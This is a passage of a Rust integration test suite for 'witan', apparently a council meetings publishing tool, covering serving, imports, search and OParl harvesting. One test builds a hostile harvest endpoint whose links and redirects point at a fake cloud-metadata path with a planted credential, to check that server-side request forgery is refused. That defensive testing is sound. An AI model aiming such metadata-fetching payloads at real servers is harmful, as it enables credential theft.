//! The real `witan` binary on real files: demo, serve over HTTP, and the ways it refuses to start.

use std::io::{BufRead, BufReader};
use std::process::{Child, Command, Stdio};
use std::time::{Duration, Instant};

#[path = "cli/documents.rs"]
mod documents;
#[path = "cli/postgres.rs"]
mod postgres;

fn witan() -> Command {
    let mut command = Command::new(env!("CARGO_BIN_EXE_witan"));
    command
        .env_remove("WITAN_DATABASE_URL")
        .env_remove("WITAN_DATA")
        .env_remove("WITAN_BIND");
    command
}

fn agent() -> ureq::Agent {
    ureq::Agent::new_with_config(
        ureq::Agent::config_builder()
            .http_status_as_error(false)
            .timeout_global(Some(Duration::from_secs(30)))
            .build(),
    )
}

fn fetch(agent: &ureq::Agent, url: &str) -> (u16, String) {
    let mut response = agent
        .get(url)
        .call()
        .unwrap_or_else(|e| panic!("GET {url}: {e}"));
    let status = response.status().as_u16();
    (status, response.body_mut().read_to_string().expect("body"))
}

/// A running `witan serve`, stopped when dropped.
struct Server {
    child: Child,
    base: String,
}

impl Drop for Server {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

fn serve(data: &std::path::Path) -> Server {
    serve_with(&[std::ffi::OsStr::new("--data"), data.as_os_str()])
}

/// `witan serve` on a free port with `args`.
fn serve_with(args: &[&std::ffi::OsStr]) -> Server {
    let mut child = witan()
        .args(["serve", "--bind", "127.0.0.1:0"])
        .args(args)
        .stderr(Stdio::piped())
        .stdout(Stdio::null())
        .spawn()
        .expect("spawn witan serve");
    let stderr = child.stderr.take().expect("stderr");
    let (sender, receiver) = std::sync::mpsc::channel();
    std::thread::spawn(move || {
        for line in BufReader::new(stderr).lines().map_while(Result::ok) {
            if let Some(at) = line.find("listening on http://") {
                let _ = sender.send(line[at + "listening on ".len()..].trim().to_owned());
            }
        }
    });
    let base = receiver
        .recv_timeout(Duration::from_secs(60))
        .expect("server did not start");
    Server { child, base }
}

fn first_link(page: &str, prefix: &str) -> Option<String> {
    let start = page.find(&format!("href=\"{prefix}"))? + "href=\"".len();
    let end = page[start..].find('"')? + start;
    Some(page[start..end].to_owned())
}

#[test]
fn help_names_every_command() {
    let output = witan().arg("--help").output().expect("run");
    assert!(output.status.success());
    let help = String::from_utf8_lossy(&output.stdout);
    for command in [
        "serve", "demo", "migrate", "reindex", "import", "user", "export",
    ] {
        assert!(help.contains(command), "{command} missing from --help");
    }
    let output = witan().args(["demo", "--help"]).output().expect("run");
    let help = String::from_utf8_lossy(&output.stdout);
    assert!(help.contains("--items") && help.contains("--seed") && help.contains("--data"));
}

#[test]
fn demo_then_serve_the_meeting_and_issue_pages() {
    let dir = tempfile::tempdir().expect("temp dir");
    let data = dir.path().join("data");
    let output = witan()
        .args(["demo", "--items", "2000", "--seed", "3", "--data"])
        .arg(&data)
        .output()
        .expect("run demo");
    let stderr = String::from_utf8_lossy(&output.stderr);
    assert!(output.status.success(), "demo failed: {stderr}");
    assert!(stderr.contains("agenda items"), "{stderr}");

    // A second demo into the same store is refused, and changes nothing.
    let again = witan()
        .args(["demo", "--items", "10", "--data"])
        .arg(&data)
        .output()
        .expect("run demo");
    assert!(!again.status.success());
    assert!(String::from_utf8_lossy(&again.stderr).contains("already holds records"));

    let server = serve(&data);
    let agent = agent();
    assert_eq!(
        fetch(&agent, &format!("{}/healthz", server.base)),
        (200, "ok\n".to_owned())
    );
    let (status, home) = fetch(&agent, &format!("{}/", server.base));
    assert_eq!(status, 200);
    let meeting = first_link(&home, "/meetings/").expect("a meeting link on the home page");
    let (status, page) = fetch(&agent, &format!("{}{meeting}", server.base));
    assert_eq!(status, 200);
    assert!(page.contains("<h2 id=\"agenda\">Agenda</h2>"), "{page}");

    // Follow committee pages until one links an issue.
    let mut issue = None;
    let mut committee_pages = Vec::new();
    let (status, list) = fetch(&agent, &format!("{}/committees", server.base));
    assert_eq!(status, 200);
    let mut rest = list.as_str();
    while let Some(link) = first_link(rest, "/committees/") {
        rest = &rest[rest.find(&link).unwrap_or(0) + link.len()..];
        committee_pages.push(link);
    }
    'search: for committee in committee_pages {
        let (_, page) = fetch(&agent, &format!("{}{committee}", server.base));
        let mut rest = page.as_str();
        while let Some(link) = first_link(rest, "/meetings/") {
            rest = &rest[rest.find(&link).unwrap_or(0) + link.len()..];
            let (_, meeting) = fetch(&agent, &format!("{}{link}", server.base));
            if let Some(found) = first_link(&meeting, "/issues/") {
                issue = Some(found);
                break 'search;
            }
        }
    }
    let issue = issue.expect("some meeting links an issue");
    let (status, page) = fetch(&agent, &format!("{}{issue}", server.base));
    assert_eq!(status, 200);
    assert!(
        page.contains("<h2>Issue history</h2>") && page.contains("Meeting: "),
        "{page}"
    );
}

#[test]
fn serve_refuses_a_data_folder_it_cannot_write() {
    let dir = tempfile::tempdir().expect("temp dir");
    let file = dir.path().join("not-a-folder");
    std::fs::write(&file, "x").expect("write");
    let started = Instant::now();
    let output = witan()
        .args(["serve", "--bind", "127.0.0.1:0", "--data"])
        .arg(&file)
        .output()
        .expect("run");
    assert!(!output.status.success());
    let stderr = String::from_utf8_lossy(&output.stderr);
    assert!(
        stderr.contains("error: cannot create the data folder"),
        "{stderr}"
    );
    assert!(!stderr.contains("panicked"), "{stderr}");
    assert!(started.elapsed() < Duration::from_secs(30));
}

#[test]
fn serve_refuses_a_database_from_a_newer_witan() {
    let dir = tempfile::tempdir().expect("temp dir");
    let data = dir.path().join("data");
    let output = witan()
        .args(["migrate", "--data"])
        .arg(&data)
        .output()
        .expect("run migrate");
    assert!(
        output.status.success(),
        "{}",
        String::from_utf8_lossy(&output.stderr)
    );
    let runtime = tokio_runtime();
    runtime.block_on(async {
        let store = witan_store::sqlite::SqliteStore::open(&data.join("witan.db"))
            .await
            .expect("open");
        sqlx::query(
            "INSERT INTO _sqlx_migrations (version, description, success, checksum, execution_time)
             VALUES (99990101000000, 'from the future', 1, x'00', 0)",
        )
        .execute(store.pool())
        .await
        .expect("insert");
        store.pool().close().await;
    });
    let output = witan()
        .args(["serve", "--bind", "127.0.0.1:0", "--data"])
        .arg(&data)
        .output()
        .expect("run");
    assert!(!output.status.success());
    let stderr = String::from_utf8_lossy(&output.stderr);
    assert!(stderr.contains("newer version of witan"), "{stderr}");
    assert!(!stderr.contains("panicked"), "{stderr}");
}

#[test]
fn configuration_file_and_bad_settings_are_named() {
    let dir = tempfile::tempdir().expect("temp dir");
    let config = dir.path().join("witan.toml");
    std::fs::write(&config, "bind = \"not an address\"\n").expect("write");
    let output = witan()
        .arg("--config")
        .arg(&config)
        .args(["serve"])
        .output()
        .expect("run");
    assert!(!output.status.success());
    assert!(String::from_utf8_lossy(&output.stderr).contains("bind: \"not an address\""));
    std::fs::write(&config, "colour = \"blue\"\n").expect("write");
    let output = witan()
        .arg("--config")
        .arg(&config)
        .args(["serve"])
        .output()
        .expect("run");
    assert!(!output.status.success());
    let stderr = String::from_utf8_lossy(&output.stderr);
    assert!(
        stderr.contains("witan.toml") && stderr.contains("colour"),
        "{stderr}"
    );
    // The limits of the server: from the file, and from WITAN_* over it.
    std::fs::write(
        &config,
        "max_concurrent_requests = 0
",
    )
    .expect("write");
    let output = witan()
        .arg("--config")
        .arg(&config)
        .args(["serve"])
        .output()
        .expect("run");
    assert!(!output.status.success());
    let stderr = String::from_utf8_lossy(&output.stderr);
    assert!(
        stderr.contains("max_concurrent_requests: 0 is not from 1 to 100000"),
        "{stderr}"
    );
    std::fs::write(
        &config,
        "request_timeout_secs = 30
",
    )
    .expect("write");
    let output = witan()
        .arg("--config")
        .arg(&config)
        .args(["serve"])
        .env("WITAN_REQUEST_TIMEOUT_SECS", "7200")
        .output()
        .expect("run");
    assert!(!output.status.success());
    let stderr = String::from_utf8_lossy(&output.stderr);
    assert!(
        stderr.contains("request_timeout_secs: 7200 is not from 1 to 3600"),
        "{stderr}"
    );
}

/// Every page type of a demo store, served by the real binary, checked with axe-core in headless
/// Chromium (tests/browser/axe.mjs): zero WCAG 2.2 A/AA violations, a working skip link, a print
/// view without the site furniture, and a keyboard-only journey to the key decisions.
/// Screenshots land in target/browser-artifacts. `.ci/run` installs Chromium and the npm packages;
/// where they are missing the test says it was skipped.
#[test]
fn pages_pass_axe_in_chromium() {
    let Some((root, chromium)) = browser_tools("axe-core") else {
        return;
    };
    let browser_tests = root.join("tests/browser");
    let dir = tempfile::tempdir().expect("temp dir");
    let data = dir.path().join("data");
    let output = witan()
        .args(["demo", "--items", "3000", "--data"])
        .arg(&data)
        .output()
        .expect("run demo");
    assert!(
        output.status.success(),
        "{}",
        String::from_utf8_lossy(&output.stderr)
    );
    let server = serve(&data);
    let artifacts = root.join("target/browser-artifacts");
    let output = Command::new("node")
        .arg(browser_tests.join("axe.mjs"))
        .arg(&server.base)
        .arg(&artifacts)
        .env("CHROMIUM", &chromium)
        .output()
        .expect("run node");
    let report = format!(
        "{}{}",
        String::from_utf8_lossy(&output.stdout),
        String::from_utf8_lossy(&output.stderr)
    );
    eprintln!("{report}");
    assert!(output.status.success(), "accessibility failures:\n{report}");
    for page in [
        "home",
        "committees",
        "committee",
        "meeting",
        "issue",
        "person",
        "decisions",
        "actions",
        "forward-plan",
    ] {
        assert!(
            report.contains(&format!("{page} /")),
            "{page} was not checked"
        );
        assert!(artifacts.join(format!("{page}-phone.png")).exists());
    }
    assert!(report.contains("keyboard journey: home → Decisions → key decisions only"));
    assert!(
        artifacts.join("meeting-print.pdf").exists(),
        "the meeting page prints"
    );
}

/// Polls `url` until `ready` holds for its JSON, for at most a minute.
fn wait_for_json(
    agent: &ureq::Agent,
    url: &str,
    ready: impl Fn(&serde_json::Value) -> bool,
) -> serde_json::Value {
    let deadline = Instant::now() + Duration::from_secs(60);
    loop {
        let (status, body) = fetch(agent, url);
        assert_eq!(status, 200, "{url}: {body}");
        let json: serde_json::Value = serde_json::from_str(&body).expect("json");
        if ready(&json) {
            return json;
        }
        assert!(
            Instant::now() < deadline,
            "{url} never became ready: {json}"
        );
        std::thread::sleep(Duration::from_millis(200));
    }
}

#[test]
fn search_index_is_built_followed_and_rebuilt_when_deleted() {
    let dir = tempfile::tempdir().expect("temp dir");
    let data = dir.path().join("data");
    let output = witan()
        .args(["demo", "--items", "1500", "--seed", "5", "--data"])
        .arg(&data)
        .output()
        .expect("run demo");
    assert!(
        output.status.success(),
        "{}",
        String::from_utf8_lossy(&output.stderr)
    );
    let agent = agent();
    let query = "/api/v1/search?q=council&sort=newest";
    let total = {
        let server = serve(&data);
        let url = format!("{}{query}", server.base);
        let json = wait_for_json(&agent, &url, |j| j["complete"] == true && j["total"] != 0);
        // A change made to the store while serving reaches search within moments.
        let db = format!("sqlite://{}", data.join("witan.db").display());
        let runtime = tokio_runtime();
        runtime.block_on(async {
            let pool = sqlx::SqlitePool::connect(&db).await.expect("database");
            sqlx::query(
                "UPDATE agenda_items SET title = 'Zebra crossing on Quillfeather Lane' \
                 WHERE id = (SELECT i.id FROM agenda_items i JOIN meetings m ON m.id = i.meeting_id \
                 WHERE i.exempt_ground IS NULL AND m.status = 'minutes_signed_off' LIMIT 1)",
            )
            .execute(&pool)
            .await
            .expect("update");
        });
        let found = wait_for_json(
            &agent,
            &format!("{}/api/v1/search?q=quillfeather", server.base),
            |j| j["total"] == 1,
        );
        assert_eq!(
            found["results"][0]["title"],
            "Zebra crossing on Quillfeather Lane"
        );
        json["total"].as_u64().expect("total")
    };
    // Deleted while the server is stopped: rebuilt on the next start, with the same answers.
    std::fs::remove_dir_all(data.join("search")).expect("delete the index");
    {
        let server = serve(&data);
        let url = format!("{}{query}", server.base);
        let json = wait_for_json(&agent, &url, |j| j["complete"] == true && j["total"] != 0);
        assert_eq!(json["total"].as_u64(), Some(total));
        let found = wait_for_json(
            &agent,
            &format!("{}/api/v1/search?q=quillfeather", server.base),
            |j| j["complete"] == true,
        );
        assert_eq!(found["total"], 1);
    }
    // `witan reindex` rebuilds it on demand and says what it did.
    let output = witan()
        .args(["reindex", "--data"])
        .arg(&data)
        .output()
        .expect("run reindex");
    let stderr = String::from_utf8_lossy(&output.stderr);
    assert!(output.status.success(), "{stderr}");
    assert!(
        stderr.contains("indexed ") && stderr.contains(" records in "),
        "{stderr}"
    );
}

fn shared_data(path: &str) -> std::path::PathBuf {
    std::path::Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("../../../shared/data")
        .join(path)
}

#[test]
fn imported_minutes_appear_on_the_site_and_a_second_import_changes_nothing() {
    let dir = tempfile::tempdir().expect("temp dir");
    let data = dir.path().join("data");
    let import = || {
        witan()
            .args([
                "import",
                "--organisation",
                "Lancashire County Council",
                "--data",
            ])
            .arg(&data)
            .arg(shared_data("seeds/001_695624d7a108ca0f.txt"))
            .output()
            .expect("run import")
    };
    let first = import();
    let summary = String::from_utf8_lossy(&first.stderr);
    assert!(first.status.success(), "{summary}");
    assert!(summary.contains("imported 1 files"), "{summary}");
    assert!(
        summary.contains(
            "created   10 (2 committee, 2 document, 1 issue, 2 item, 2 meeting, 1 organisation)"
        ),
        "{summary}"
    );
    assert!(
        summary.contains("rejected  0 records, 0 files"),
        "{summary}"
    );
    let second = import();
    let summary = String::from_utf8_lossy(&second.stderr);
    assert!(
        summary.contains("created   0\n") && summary.contains("updated   0\n"),
        "{summary}"
    );
    assert!(summary.contains("unchanged 10"), "{summary}");

    let broken = dir.path().join("broken.json");
    std::fs::write(
        &broken,
        "{\"type\": \"https://schema.oparl.org/1.1/Body\", ",
    )
    .expect("write");
    let failed = witan()
        .args(["import", "--data"])
        .arg(&data)
        .arg(&broken)
        .output()
        .expect("run import");
    let stderr = String::from_utf8_lossy(&failed.stderr);
    assert_eq!(failed.status.code(), Some(1), "{stderr}");
    assert!(
        stderr.contains("broken.json:line 1: not valid JSON"),
        "{stderr}"
    );
    assert!(
        stderr.contains("error: 1 files or pages were not imported"),
        "{stderr}"
    );

    let missing = witan()
        .args(["import", "--data"])
        .arg(&data)
        .arg(dir.path().join("nowhere.txt"))
        .output()
        .expect("run import");
    assert!(!missing.status.success());
    assert!(
        String::from_utf8_lossy(&missing.stderr).contains("nowhere.txt: no such file or folder")
    );

    let board = witan()
        .args([
            "import",
            "--organisation",
            "Lancashire and South Cumbria ICS",
            "--committee",
            "ICS Board",
            "--data",
        ])
        .arg(&data)
        .arg(shared_data("seeds/000_54a104f843f7d0d7.txt"))
        .output()
        .expect("run import");
    assert!(
        board.status.success(),
        "{}",
        String::from_utf8_lossy(&board.stderr)
    );

    let server = serve(&data);
    let agent = agent();
    let (status, page) = fetch(&agent, &format!("{}/issues/1", server.base));
    assert_eq!(status, 200, "{page}");
    assert!(
        page.contains("Meeting: 14/04/2016 - Cabinet (Item 7)"),
        "{page}"
    );
    assert!(page.contains("Meeting: 12/04/2016 - Executive Scrutiny Committee (Item 4)"));
    assert!(page.contains("PDF 144 KB"));
    let search = wait_for_json(
        &agent,
        &format!("{}/api/v1/search?q=bite+size+briefings", server.base),
        |v| v["total"].as_u64().unwrap_or(0) > 0,
    );
    assert!(
        search.to_string().contains("Executive Scrutiny Committee"),
        "{search}"
    );
    // "What was decided about step-down beds?" finds the board's imported summary.
    let beds = wait_for_json(
        &agent,
        &format!("{}/api/v1/search?q=step-down+beds", server.base),
        |v| v["total"].as_u64().unwrap_or(0) > 0,
    );
    let first = &beds["results"][0];
    assert!(
        first.to_string().contains("Month 6 Financial Position"),
        "{beds}"
    );
    assert!(first.to_string().contains("ICS Board"), "{beds}");
}

/// What a [`TinyServer`] answers to one request.
struct Reply {
    status: &'static str,
    headers: String,
    body: String,
}

impl Reply {
    fn json(value: serde_json::Value) -> Self {
        Self {
            status: "200 OK",
            headers: "Content-Type: application/json\r\n".to_owned(),
            body: value.to_string(),
        }
    }

    fn text(body: &str) -> Self {
        Self {
            status: "200 OK",
            headers: "Content-Type: text/plain; charset=utf-8\r\n".to_owned(),
            body: body.to_owned(),
        }
    }

    fn redirect(location: &str) -> Self {
        Self {
            status: "302 Found",
            headers: format!("Location: {location}\r\n"),
            body: String::new(),
        }
    }
}

/// A tiny HTTP server on 127.0.0.1 for the harvest tests: `route` answers each request from the
/// server's base URL (`http://HOST:PORT`, with the host name given) and the path asked for. It
/// records the paths asked for and counts connections, answers at most 100, waits at most five
/// seconds for a request, and stops when dropped.
struct TinyServer {
    base: String,
    asked: std::sync::Arc<std::sync::Mutex<Vec<String>>>,
    connections: std::sync::Arc<std::sync::atomic::AtomicUsize>,
    stop: std::sync::Arc<std::sync::atomic::AtomicBool>,
    address: std::net::SocketAddr,
}

impl Drop for TinyServer {
    fn drop(&mut self) {
        self.stop.store(true, std::sync::atomic::Ordering::SeqCst);
        let _ = std::net::TcpStream::connect(self.address);
    }
}

impl TinyServer {
    fn connections(&self) -> usize {
        self.connections.load(std::sync::atomic::Ordering::SeqCst)
    }
}

fn tiny_server(host: &str, route: impl Fn(&str, &str) -> Reply + Send + 'static) -> TinyServer {
    use std::io::{Read, Write};
    use std::sync::atomic::Ordering::SeqCst;
    let listener = std::net::TcpListener::bind("127.0.0.1:0").expect("bind");
    let address = listener.local_addr().expect("addr");
    let base = format!("http://{host}:{}", address.port());
    let server = TinyServer {
        base: base.clone(),
        asked: Default::default(),
        connections: Default::default(),
        stop: Default::default(),
        address,
    };
    let (asked, connections, stop) = (
        server.asked.clone(),
        server.connections.clone(),
        server.stop.clone(),
    );
    std::thread::spawn(move || {
        for stream in listener.incoming().take(100) {
            if stop.load(SeqCst) {
                break;
            }
            connections.fetch_add(1, SeqCst);
            let Ok(mut stream) = stream else { continue };
            let _ = stream.set_read_timeout(Some(Duration::from_secs(5)));
            let mut head = Vec::new();
            let mut byte = [0u8; 1];
            while !head.ends_with(b"\r\n\r\n")
                && head.len() < 16 * 1024
                && stream.read(&mut byte).is_ok_and(|n| n == 1)
            {
                head.push(byte[0]);
            }
            let head = String::from_utf8_lossy(&head).into_owned();
            let path = head.split_whitespace().nth(1).unwrap_or("/").to_owned();
            asked.lock().expect("lock").push(path.clone());
            let reply = route(&base, &path);
            let _ = write!(
                stream,
                "HTTP/1.1 {}\r\n{}Content-Length: {}\r\nConnection: close\r\n\r\n{}",
                reply.status,
                reply.headers,
                reply.body.len(),
                reply.body
            );
        }
    });
    server
}

fn oparl_type(kind: &str) -> String {
    format!("https://schema.oparl.org/1.1/{kind}")
}

/// A small OParl server for the harvest test: a System, one Body, its organisations and two
/// pages of meetings; lists asked with `modified_since` are empty (nothing changed).
fn oparl_server() -> TinyServer {
    let t = oparl_type;
    tiny_server("127.0.0.1", move |b, path| {
        let changed_only = path.contains("modified_since=");
        let route = path.split('?').next().unwrap_or_default();
        let meeting = |id: u32| {
            serde_json::json!({"id": format!("{b}/meeting/{id}"), "type": t("Meeting"),
                "start": "2021-10-11T10:00:00+01:00",
                "organization": [format!("{b}/organization/1")],
                "agendaItem": [{"id": format!("{b}/agendaitem/{id}"), "type": t("AgendaItem"),
                    "number": "1", "name": format!("Harvested item {id}"),
                    "auxiliaryFile": [{"id": format!("{b}/file/{id}"), "type": t("File"),
                        "name": "Winter report", "mimeType": "text/plain",
                        "accessUrl": format!("{b}/files/report-{id}.txt")}]}]})
        };
        Reply::json(match (route, changed_only) {
            (file, _) if file.starts_with("/files/") => {
                return Reply::text("Forty one step down beds are planned for the winter.");
            }
            ("/system", _) => serde_json::json!({"id": format!("{b}/system"),
                "type": t("System"), "body": format!("{b}/bodies")}),
            ("/bodies", _) => serde_json::json!({"data": [{"id": format!("{b}/body/1"),
                "type": t("Body"), "name": "Harvest Council",
                "organization": format!("{b}/organizations"),
                "meeting": format!("{b}/meetings")}], "links": {}}),
            (_, true) => serde_json::json!({"data": [], "links": {}}),
            ("/organizations", false) => serde_json::json!({"data": [{
                "id": format!("{b}/organization/1"), "type": t("Organization"),
                "body": format!("{b}/body/1"), "name": "Harvest Committee"}], "links": {}}),
            ("/meetings", false) if path.contains("page=2") => {
                serde_json::json!({"data": [meeting(2)], "links": {}})
            }
            ("/meetings", false) => serde_json::json!({"data": [meeting(1)],
                "links": {"next": format!("{b}/meetings?page=2")}}),
            _ => serde_json::json!({"error": "not found"}),
        })
    })
}

#[test]
fn an_oparl_endpoint_is_harvested_and_a_second_harvest_asks_only_for_changes() {
    let server = oparl_server();
    let dir = tempfile::tempdir().expect("temp dir");
    let data = dir.path().join("data");
    let harvest = || {
        witan()
            .args([
                "import",
                "--url",
                &format!("{}/system", server.base),
                "--data",
            ])
            .arg(&data)
            .output()
            .expect("run import --url")
    };
    let first = harvest();
    let summary = String::from_utf8_lossy(&first.stderr);
    assert!(first.status.success(), "{summary}");
    assert!(
        summary
            .contains("created   8 (1 committee, 2 document, 2 item, 2 meeting, 1 organisation)"),
        "{summary}"
    );
    let asked: Vec<String> = server.asked.lock().expect("lock").drain(..).collect();
    assert!(asked.contains(&"/meetings?page=2".to_owned()), "{asked:?}");
    assert!(
        asked.iter().all(|p| !p.contains("modified_since")),
        "{asked:?}"
    );

    let second = harvest();
    let summary = String::from_utf8_lossy(&second.stderr);
    assert!(second.status.success(), "{summary}");
    assert!(
        summary.contains("created   0\n") && summary.contains("updated   0\n"),
        "{summary}"
    );
    let asked: Vec<String> = server.asked.lock().expect("lock").drain(..).collect();
    let meetings = asked
        .iter()
        .find(|p| p.starts_with("/meetings"))
        .expect("meetings asked");
    assert!(meetings.contains("modified_since=20"), "{asked:?}");

    // The harvested report's words are found: its file was fetched and read.
    let site = serve(&data);
    let found = wait_for_json(
        &agent(),
        &format!("{}/api/v1/search?q=forty+one+step+down+beds", site.base),
        |v| v["total"].as_u64().unwrap_or(0) > 0,
    );
    assert!(found.to_string().contains("Winter report"), "{found}");
}

/// A harvested endpoint that names another server: a list of papers there, a `links.next` to it,
/// a File whose `accessUrl` is there, and a redirect to it. The other server stands for a cloud
/// metadata service or an intranet page: witan must never connect to it, must say what it
/// refused, and nothing of it may become searchable. Before, witan followed all four and
/// published the answers as document text.
#[test]
fn harvest_does_not_follow_links_or_redirects_to_other_hosts() {
    let secret = "metadata credential zebra quartz";
    let elsewhere = tiny_server("127.0.0.1", move |_, _| Reply::text(secret));
    let e = elsewhere.base.clone();
    let t = oparl_type;
    let endpoint = tiny_server("127.0.0.1", move |b, path| match path {
        "/system" => Reply::json(serde_json::json!({"id": format!("{b}/system"),
            "type": t("System"), "body": format!("{b}/bodies")})),
        "/bodies" => Reply::json(serde_json::json!({"data": [{"id": format!("{b}/body/1"),
            "type": t("Body"), "name": "Hostile Council",
            "organization": format!("{b}/organizations"),
            "paper": format!("{e}/papers"),
            "meeting": format!("{b}/meetings")}], "links": {}})),
        "/organizations" => Reply::json(serde_json::json!({"data": [{
            "id": format!("{b}/organization/1"), "type": t("Organization"),
            "body": format!("{b}/body/1"), "name": "Hostile Committee"}], "links": {}})),
        "/meetings" => Reply::json(serde_json::json!({"data": [{
            "id": format!("{b}/meeting/1"), "type": t("Meeting"),
            "start": "2021-10-11T10:00:00+01:00",
            "organization": [format!("{b}/organization/1")],
            "agendaItem": [{"id": format!("{b}/agendaitem/1"), "type": t("AgendaItem"),
                "number": "1", "name": "Harvested item",
                "auxiliaryFile": [
                    {"id": format!("{b}/file/1"), "type": t("File"), "name": "Credentials",
                        "mimeType": "text/plain", "accessUrl": format!("{e}/latest/meta-data")},
                    {"id": format!("{b}/file/2"), "type": t("File"), "name": "Moved",
                        "mimeType": "text/plain", "accessUrl": format!("{b}/moved")},
                    {"id": format!("{b}/file/3"), "type": t("File"), "name": "Winter report",
                        "mimeType": "application/pdf", "accessUrl": format!("{b}/report")}]}]}],
            "links": {"next": format!("{e}/meetings?page=2")}})),
        "/moved" => Reply::redirect(&format!("{e}/latest/user-data")),
        "/report" => Reply::text("Forty one step down beds are planned for the winter."),
        _ => Reply::json(serde_json::json!({"error": "not found"})),
    });
    let e = elsewhere.base.clone();
    let port = endpoint.base.trim_start_matches("http://127.0.0.1:");
    let dir = tempfile::tempdir().expect("temp dir");
    let data = dir.path().join("data");
    let output = witan()
        .args([
            "import",
            "--json",
            "--url",
            &format!("{}/system", endpoint.base),
        ])
        .args(["--allow-host", &format!("127.0.0.1:{port}"), "--data"])
        .arg(&data)
        .output()
        .expect("run import --url");
    let stderr = String::from_utf8_lossy(&output.stderr);
    let report: serde_json::Value =
        serde_json::from_slice(&output.stdout).unwrap_or_else(|e| panic!("{e}: {stderr}"));

    assert_eq!(elsewhere.connections(), 0, "the other server was reached");
    // The harvest is incomplete, so it says so and is not remembered as complete.
    assert!(!output.status.success(), "{stderr}");
    let refused = |at: &str, then: &str| {
        let expected = format!(
            "refused {at}{then}: not the harvested origin ({}) nor a host allowed with \
             --allow-host",
            endpoint.base
        );
        assert!(
            report.to_string().contains(&expected),
            "{expected}\n{report:#}"
        );
    };
    refused(&format!("{e}/papers"), "");
    refused(&format!("{e}/meetings?page=2"), "");
    refused(&format!("{e}/latest/meta-data"), "");
    refused(
        &format!("{e}/latest/user-data"),
        &format!(" (redirected from {}/moved)", endpoint.base),
    );
    let failed: Vec<&str> = report["failed"]
        .as_array()
        .expect("failed")
        .iter()
        .filter_map(|p| p["at"].as_str())
        .collect();
    assert_eq!(
        failed,
        [format!("{e}/papers"), format!("{e}/meetings?page=2")],
        "{report:#}"
    );
    // What the endpoint itself serves did land: the meeting, its item and the report's text.
    assert_eq!(report["tally"]["created"]["meeting"], 1, "{report:#}");
    assert_eq!(report["tally"]["created"]["document"], 3, "{report:#}");

    let site = serve(&data);
    let found = wait_for_json(
        &agent(),
        &format!("{}/api/v1/search?q=forty+one+step+down+beds", site.base),
        |v| v["total"].as_u64().unwrap_or(0) > 0,
    );
    assert!(found.to_string().contains("Winter report"), "{found}");
    let (status, body) = fetch(
        &agent(),
        &format!("{}/api/v1/search?q=zebra+quartz", site.base),
    );
    assert_eq!(status, 200, "{body}");
    let leaked: serde_json::Value = serde_json::from_str(&body).expect("json");
    assert_eq!(leaked["total"], 0, "{leaked}");
    assert_eq!(elsewhere.connections(), 0, "the other server was reached");
}

/// An endpoint named by a host name is held to the address rule like any other host: its owner
/// answers for the name and could point it at a loopback or link-local address. Named on the
/// command line with --allow-host, the same server is harvested.
#[test]
fn a_harvest_connects_to_a_named_loopback_host_only_when_allowed() {
    let server = tiny_server("localhost", |b, path| match path {
        "/bodies" => Reply::json(serde_json::json!({"data": [{"id": format!("{b}/body/1"),
            "type": oparl_type("Body"), "name": "Local Council"}], "links": {}})),
        _ => Reply::json(serde_json::json!({"error": "not found"})),
    });
    let dir = tempfile::tempdir().expect("temp dir");
    let data = dir.path().join("data");
    let url = format!("{}/bodies", server.base);
    let host = server.base.trim_start_matches("http://");
    let refused = witan()
        .args(["import", "--url", &url, "--data"])
        .arg(&data)
        .output()
        .expect("run import --url");
    let summary = String::from_utf8_lossy(&refused.stderr);
    assert!(!refused.status.success(), "{summary}");
    assert!(
        summary.contains(&format!("refused {url}: localhost resolves to"))
            && summary.contains("a loopback address, and is not a host allowed with --allow-host"),
        "{summary}"
    );
    assert_eq!(server.connections(), 0, "{summary}");

    let allowed = witan()
        .args(["import", "--url", &url, "--allow-host", host, "--data"])
        .arg(&data)
        .output()
        .expect("run import --url");
    let summary = String::from_utf8_lossy(&allowed.stderr);
    assert!(allowed.status.success(), "{summary}");
    assert!(server.connections() > 0, "{summary}");

    let help = witan()
        .args(["import", "--help"])
        .output()
        .expect("run import --help");
    let help = String::from_utf8_lossy(&help.stdout);
    assert!(help.contains("--allow-host <HOST[:PORT]>"), "{help}");
}

/// The clerk's main journey through the workspace, in headless Chromium with JavaScript switched
/// off (tests/browser/journey.mjs): sign in, schedule a meeting, add items (one refused with an
/// error summary), publish the agenda, hold the meeting, record minutes, a key decision, an action
/// and an escalation, sign the minutes off, find it all on the public page, sign out. Skipped,
/// like the axe test, where node, Chromium or the npm packages are missing.
#[test]
fn a_clerk_runs_a_meeting_in_chromium() {
    let Some((root, chromium)) = browser_tools("playwright-core") else {
        return;
    };
    let dir = tempfile::tempdir().expect("temp dir");
    let data = dir.path().join("data");
    demo(&data, 500);
    // The clerk works for an integrated care board that owns more than one committee, so that
    // an item can be escalated from one of its committees to another.
    let organisation = organisation_with_committees(&data);
    let (email, password) = ("clerk@example.org", "a clerk's long passphrase");
    add_user(
        &data,
        email,
        password,
        "clerk",
        "Test Clerk",
        Some(&organisation),
    );

    let server = serve(&data);
    let (status, report) = run_node(
        &root.join("tests/browser/journey.mjs"),
        &[server.base.as_str(), email, password],
        &chromium,
        Duration::from_secs(150),
    );
    let status = status.unwrap_or_else(|| panic!("the journey did not end in 150 s:\n{report}"));
    assert!(status.success(), "the clerk's journey failed:\n{report}");
    eprintln!("{report}");
    assert!(
        report.contains("ok 8. sign out") && report.contains("to signed-off minutes in"),
        "{report}"
    );
}

/// The repository's root, when node and the npm package a test needs are there; otherwise None,
/// and the test says it was skipped.
fn node_tools(package: &str) -> Option<std::path::PathBuf> {
    let root = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("../..");
    let node = Command::new("node")
        .arg("--version")
        .output()
        .is_ok_and(|o| o.status.success());
    if !node
        || !root
            .join("tests/browser/node_modules")
            .join(package)
            .exists()
    {
        eprintln!("skipped: needs node and `npm ci` in tests/browser (.ci/run installs them)");
        return None;
    }
    Some(root)
}

/// The repository's root and the Chromium to run, when node, Chromium and the npm package the
/// browser test needs are there; otherwise None, and the test says it was skipped.
fn browser_tools(package: &str) -> Option<(std::path::PathBuf, String)> {
    let root = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("../..");
    let chromium = std::env::var("CHROMIUM").unwrap_or_else(|_| "/usr/bin/chromium".to_owned());
    let node = Command::new("node")
        .arg("--version")
        .output()
        .is_ok_and(|o| o.status.success());
    if !node
        || !std::path::Path::new(&chromium).exists()
        || !root
            .join("tests/browser/node_modules")
            .join(package)
            .exists()
    {
        eprintln!(
